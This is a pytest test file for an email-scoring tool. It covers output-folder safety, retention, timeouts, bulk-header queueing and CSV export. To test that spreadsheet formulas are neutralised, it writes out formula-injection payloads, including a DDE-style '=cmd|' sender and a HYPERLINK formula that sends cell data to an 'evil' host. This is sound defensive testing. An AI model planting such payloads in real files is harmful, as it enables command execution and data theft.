"""What a scoring run may touch and leave behind: the output folder, CSV cells, old nights, stuck messages."""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import stat
import time
from datetime import date, timedelta
from pathlib import Path

import pandas as pd
import pytest
from test_score_cli import by_source, results, score, summary, tiny_model  # tests/ is on sys.path

import mailguard.mail.readers
from mailguard.csvsafe import SafeDictWriter, neutralise_cell
from serve.scoring.retention import remove_old_results


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tiny_model(tmp_path_factory.mktemp("model") / "m")


@pytest.fixture()
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def mbox(path: Path, *messages: tuple[str, str, str]) -> Path:
    """Write (headers, subject, body) messages as an mbox."""
    path.write_text("".join(
        f"From a@x Sat Nov 28 09:00:00 2026\nMessage-ID: <m{i}@city.gov>\n{headers}Subject: {subject}\n\n{body}\n\n"
        for i, (headers, subject, body) in enumerate(messages)
    ), encoding="utf-8")
    return path


# -- the output folder (item 6) -----------------------------------------------------------


def test_a_folder_that_is_not_a_mailguard_output_is_refused_and_left_as_it_was(work: Path, model_dir: Path) -> None:
    mbox(work / "in.mbox", ("", "hello", "lunch on monday"))
    home = work / "home"
    (home / "parts").mkdir(parents=True)
    (home / "parts" / "part-000000.parquet").write_text("someone's file that looks like a part")
    (home / ".bashrc.tmp-1").write_text("a temp-looking file")
    os.chmod(home, 0o755)
    before = sorted(str(p.relative_to(home)) for p in home.rglob("*"))
    res = score("in.mbox", "--out", home, "--model", model_dir, "--workers", "1")
    assert res.exit_code == 2 and res.output.startswith("error: ") and res.output.count("\n") == 1
    assert "not empty" in res.output and "Traceback" not in res.output
    assert sorted(str(p.relative_to(home)) for p in home.rglob("*")) == before  # nothing deleted
    assert stat.S_IMODE(home.stat().st_mode) == 0o755  # mode untouched


def test_a_symlinked_output_folder_is_refused(work: Path, model_dir: Path) -> None:
    mbox(work / "in.mbox", ("", "hello", "lunch on monday"))
    (work / "real").mkdir()
    os.symlink(work / "real", work / "link")
    res = score("in.mbox", "--out", work / "link", "--model", model_dir, "--workers", "1")
    assert res.exit_code == 2 and "symbolic link" in res.output
    assert not any((work / "real").iterdir())


def test_empty_and_earlier_output_folders_are_accepted(work: Path, model_dir: Path) -> None:
    mbox(work / "in.mbox", ("", "hello", "lunch on monday"))
    (work / "empty").mkdir()
    for _ in range(2):  # first into an empty folder, then into the folder that run made its own
        res = score("in.mbox", "--out", "empty", "--model", model_dir, "--workers", "1")
        assert res.exit_code == 0, res.output


# -- CSV cells (item 8) --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "safe"),
    [("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"),
     ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("plain", "plain"), ("", ""),
     ("a=b", "a=b"), (0.5, 0.5)],
)
def test_formula_cells_get_a_leading_quote(cell: object, safe: object) -> None:
    assert neutralise_cell(cell) == safe


def test_results_csv_neutralises_formulas_and_parquet_keeps_the_text(work: Path, model_dir: Path) -> None:
    mbox(work / "in.mbox", ("From: =cmd|'/c calc'!A1 <x@evil.example>\n", '=HYPERLINK("http://evil/"&A1,"open")',
                            "lunch on monday"))
    res = score("in.mbox", "--out", "out", "--model", model_dir, "--workers", "1")
    assert res.exit_code == 0, res.output
    row = next(csv.DictReader(io.StringIO((work / "out" / "results.csv").read_text(encoding="utf-8"))))
    assert row["subject"] == "'=HYPERLINK(\"http://evil/\"&A1,\"open\")"
    assert results(work / "out").at[0, "subject"] == '=HYPERLINK("http://evil/"&A1,"open")'  # data unchanged


def test_safe_dict_writer_neutralises_every_row() -> None:
    buf = io.StringIO()
    writer = SafeDictWriter(buf, fieldnames=["actor", "detail"])
    writer.writeheader()
    writer.writerows([{"actor": "@admin", "detail": "=1+1"}, {"actor": "ann", "detail": "ok"}])
    assert buf.getvalue().splitlines() == ["actor,detail", "'@admin,'=1+1", "ann,ok"]


# -- retention (item 9) --------------------------------------------------------------------


def _night(root: Path, day: date, rows: int = 3) -> Path:
    folder = root / day.isoformat()
    (folder / ".state").mkdir(parents=True)
    (folder / ".state" / "ledger.sqlite").write_bytes(b"")
    (folder / "parts").mkdir()
    (folder / "parts" / "part-000000.parquet").write_bytes(b"x")
    (folder / "summary.json").write_text(json.dumps({"totals": {"rows": rows}}))
    return folder


def test_retention_deletes_only_old_mailguard_nights_and_counts_them(tmp_path: Path) -> None:
    today = date(2026, 11, 29)
    old, older = _night(tmp_path, today - timedelta(days=31)), _night(tmp_path, today - timedelta(days=400), rows=5)
    recent, current = _night(tmp_path, today - timedelta(days=30)), _night(tmp_path, today - timedelta(days=1))
    foreign = tmp_path / (today - timedelta(days=90)).isoformat()
    foreign.mkdir()
    (foreign / "notes.txt").write_text("not ours")
    os.symlink(older, tmp_path / "2020-01-01")  # a link named like a night is never followed
    busy = _night(tmp_path, today - timedelta(days=60))
    lock = os.open(busy / ".state" / "lock", os.O_RDWR | os.O_CREAT)
    fcntl.flock(lock, fcntl.LOCK_EX)  # a run is writing into it right now
    try:
        removed = remove_old_results(tmp_path, 30, today, current)
    finally:
        os.close(lock)
    assert (removed.folders, removed.messages, removed.files) == (2, 8, 8)  # ledger, part, summary, lock
    assert (removed.kept_in_use, removed.kept_foreign) == (1, 1)
    assert not old.exists() and not older.exists()
    assert recent.exists() and current.exists() and foreign.exists() and busy.exists()
    assert remove_old_results(tmp_path, 0, today, current).folders == 0  # 0 keeps everything


def test_keep_days_after_a_run_logs_counts_and_never_names(work: Path, model_dir: Path) -> None:
    mbox(work / "in.mbox", ("", "hello", "lunch on monday"))
    root = work / "results"
    gone = _night(root, date.today() - timedelta(days=10), rows=7)
    res = score("in.mbox", "--out", root / date.today().isoformat(), "--model", model_dir, "--workers", "1",
                "--keep-days", "7", "--log-format", "json")
    assert res.exit_code == 0, res.output
    assert not gone.exists() and (root / date.today().isoformat() / "results.parquet").exists()
    (line,) = [json.loads(x) for x in res.stderr.splitlines() if '"old_results_removed"' in x]
    assert (line["folders"], line["messages"], line["keep_days"]) == (1, 7, 7)
    assert gone.name not in res.stderr and "lunch" not in res.stderr


# -- stuck messages in a real run (item 1) --------------------------------------------------


def test_a_stuck_message_gets_a_timeout_row_and_a_resumed_run_skips_it(
    work: Path, model_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    build, calls = mailguard.mail.readers._build, []

    def slow_build(parsed, raw, opts):  # type: ignore[no-untyped-def]
        if "stuck" in str(parsed.get("subject", "")):
            calls.append(raw.source)
            time.sleep(30)  # stands in for a parse that never ends
        return build(parsed, raw, opts)

    monkeypatch.setattr(mailguard.mail.readers, "_build", slow_build)
    mbox(work / "in.mbox", ("", "fine", "lunch on monday"), ("", "stuck", "x"), ("", "fine too", "buy cheap watches now"))
    args = ("in.mbox", "--out", "out", "--model", model_dir, "--workers", "1", "--message-seconds", "0.5")
    started = time.monotonic()
    res = score(*args)
    assert res.exit_code == 1, res.output  # one message could not be read: documented exit code
    frame = results(work / "out")
    stuck = by_source(frame, "in.mbox#1")
    assert stuck["status"] == "error" and stuck["error"].startswith("timeout: ")
    assert by_source(frame, "in.mbox#2")["labels"] == "solicitation"  # the run went on
    assert summary(work / "out")["errors_by_kind"] == {"timeout": 1}
    res = score(*args)  # a resumed run: the stuck message costs its budget once more, then counts as done
    assert res.exit_code == 1 and time.monotonic() - started < 45  # a stuck message would take 30 s a run
    assert summary(work / "out")["this_run"]["scored"] == 0 and len(results(work / "out")) == 3
    assert len(calls) == 2


def test_a_file_name_that_is_not_utf8_is_written_safely(work: Path, model_dir: Path) -> None:
    folder = work / "emls"
    folder.mkdir()
    (folder / os.fsdecode(b"r\xe9union.eml")).write_bytes(b"Message-ID: <n@x>\nSubject: hello\n\nlunch on monday\n")
    res = score("emls", "--out", "out", "--model", model_dir, "--workers", "1")
    assert res.exit_code == 0, res.output
    assert results(work / "out").at[0, "source"].endswith("r\\xe9union.eml")
    assert len(pd.read_csv(work / "out" / "results.csv")) == 1


# -- sender-set bulk headers (item 5) --------------------------------------------------------


def test_inbound_mail_with_bulk_headers_is_queued_when_a_harassment_label_scores_high(
    work: Path, model_dir: Path
) -> None:
    mbox(work / "in.mbox",
         ("From: x@outside.example\nTo: ann@city.gov\nX-Auto-Response-Suppress: All\n", "tonight",
          "send me sexy photos tonight"),
         ("From: deals@outside.example\nTo: ann@city.gov\nList-Id: <deals.outside.example>\n", "offer",
          "buy cheap watches now special discount offer"))
    (work / "mailguard.toml").write_text("[queue]\nhigh_score = 0.5\n")  # the tiny model's scores are modest
    res = score("in.mbox", "--out", "out", "--model", model_dir, "--workers", "1", "--org-domain", "city.gov")
    assert res.exit_code == 0, res.output
    frame = results(work / "out")
    harass, advert = by_source(frame, "in.mbox#0"), by_source(frame, "in.mbox#1")
    assert harass["direction"] == "inbound" and harass["bulk"] and harass["labels"] == "sexual"
    assert harass["queue"] and harass["queue_reason"] == "high score despite bulk headers"
    assert advert["bulk"] and advert["labels"] == "solicitation" and not advert["queue"]  # marketing: reported


def test_the_review_apps_audit_export_neutralises_formulas_too() -> None:
    from serve.review.audit import AUDIT_COLUMNS, write_audit_csv

    buf = io.StringIO()
    row = dict.fromkeys(AUDIT_COLUMNS, "")
    write_audit_csv([{**row, "actor": "=HYPERLINK(\"http://x\")", "detail": "+cmd"}], buf)
    exported = next(csv.DictReader(io.StringIO(buf.getvalue())))
    assert exported["actor"] == "'=HYPERLINK(\"http://x\")" and exported["detail"] == "'+cmd"
